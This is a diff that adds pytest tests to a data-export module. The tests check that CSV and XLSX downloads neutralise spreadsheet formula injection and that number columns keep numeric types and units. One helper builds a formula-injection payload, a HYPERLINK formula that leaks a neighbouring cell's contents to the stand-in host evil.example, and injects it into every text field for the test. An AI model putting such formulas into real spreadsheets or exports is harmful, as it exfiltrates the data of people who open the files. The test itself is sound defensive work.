@@ -182,3 +182,107 @@ def test_downloads_are_made_one_file_at_a_time_into_a_cache_folder_that_is_whole
     assert got["topics/b.csv"].read_text(encoding="utf-8") == "topics/b.csv 内容"
     assert got["c.xlsx"].read_bytes() == b"\x00\x01"
     assert bookcache.derived_files(project, "downloads", "", lambda: iter(())) == got  # kept: not made again
+
+
+# --- issue 30 (1): every spreadsheet cell is data, never a formula -----------------------------------
+
+_STARTS = ("=", "+", "-", "@", "\t", "\r")
+_KEEP = {"id", "file", "sha256", "captured_from", "kind"}  # keys and paths the downloads look things up by
+
+
+def _poisoned(book):
+    """A copy of the book with a formula payload at the start of every text field (names, notes, values,
+    quotes, province, labels, paragraphs, corrections), each formula character in turn."""
+    import copy
+
+    from pydantic import BaseModel
+
+    book = copy.deepcopy(book)
+    count = iter(range(10**9))
+
+    def payload(text: str) -> str:
+        start = _STARTS[next(count) % 5]  # not CR: the schema refuses it in data (the writers neutralise it too)
+        return f'{start}HYPERLINK("http://evil.example/?leak="&A2,"点此核对原文"){text}'
+
+    seen: set[int] = set()
+
+    def walk(obj) -> None:
+        if id(obj) in seen:
+            return
+        seen.add(id(obj))
+        if isinstance(obj, BaseModel):
+            for name in type(obj).model_fields:
+                value = getattr(obj, name)
+                if isinstance(value, str) and name not in _KEEP and not isinstance(value, enum.Enum):
+                    setattr(obj, name, payload(value))
+                else:
+                    walk(value)
+        elif isinstance(obj, dict):
+            for v in obj.values():
+                walk(v)
+        elif isinstance(obj, list | tuple):
+            for v in obj:
+                walk(v)
+
+    import enum
+
+    walk(list(book.cities.values()))
+    walk(list(book.facts.values()))
+    walk(getattr(book, "topic_list", None) or [])
+    return book
+
+
+def test_no_download_holds_a_formula_even_when_every_field_starts_like_one(book, alignment):
+    import openpyxl
+
+    poisoned = _poisoned(book)
+    files = exports.download_files(poisoned, alignment, "https://rules.example.org/")
+    csv_fields = payloads_in_csv = formula_cells = payload_cells = 0
+    for name, data in files.items():
+        if name.endswith(".csv"):
+            assert data.startswith("\ufeff")
+            for row in csv.reader(io.StringIO(data[1:])):
+                for field in row:
+                    csv_fields += 1
+                    assert not field.startswith(_STARTS), (name, field[:60])
+                    payloads_in_csv += field.startswith(tuple("'" + s for s in _STARTS))
+            # every text field is quoted (OWASP); a bare field is a number
+            for line in data[1:].split("\r\n")[1:3]:
+                assert line == "" or line.startswith(('"', *"0123456789")), (name, line[:60])
+        elif name.endswith(".xlsx"):
+            wb = openpyxl.load_workbook(io.BytesIO(data))
+            for ws in wb.worksheets:
+                for row in ws.iter_rows():
+                    for cell in row:
+                        formula_cells += cell.data_type == "f"
+                        if isinstance(cell.value, str) and cell.value.startswith(_STARTS):
+                            payload_cells += 1
+                            assert cell.data_type == "s" and cell.quotePrefix, (name, cell.coordinate)
+    assert formula_cells == 0
+    # the payloads did reach the files (as text): names, notes, values, quotes, province, labels
+    assert payloads_in_csv > 500 and payload_cells > 100, (payloads_in_csv, payload_cells)
+    every_csv = "".join(v for k, v in files.items() if k.endswith(".csv"))
+    for start in _STARTS[:5]:  # each formula character arrived, neutralised
+        assert f"'{start}HYPERLINK(" in every_csv, repr(start)
+
+
+def test_number_columns_are_numbers_with_a_format_and_the_unit_in_the_header(book):
+    import openpyxl
+
+    sheet = exports.topic_sheet(book, "meetings")
+    ws = openpyxl.load_workbook(io.BytesIO(exports.sheet_xlsx(sheet)))["比较"]
+    header = [c.value for c in ws[1]]
+    number_cols = [i for i, h in enumerate(header) if "·数值" in h]
+    assert number_cols and all(re.search(r"·数值（.+）$", header[i]) for i in number_cols), header
+    numbers = [r[i] for r in ws.iter_rows(min_row=2) for i in number_cols if r[i].value not in (None, "")]
+    assert numbers and all(c.data_type == "n" and isinstance(c.value, int | float) for c in numbers)
+    assert all(c.number_format in ("0", "0.0##") for c in numbers)
+    zhuzhou = book.facts["meetings"]
+    attr = next(a for a in zhuzhou.attributes if a.unit)
+    col = header.index(f"{attr.label}·数值（{attr.unit}）")
+    for c, r in zip(book.ordered_cities(), ws.iter_rows(min_row=2), strict=True):
+        expected = attr.cells[c.id].number
+        assert (r[col].value in (None, "")) if expected is None else r[col].value == expected
+    # and in the CSV a number is bare (unquoted), so a spreadsheet reads it as a number
+    text = exports.sheet_csv(sheet)
+    assert re.search(r",\d+(,|\r\n)", text)
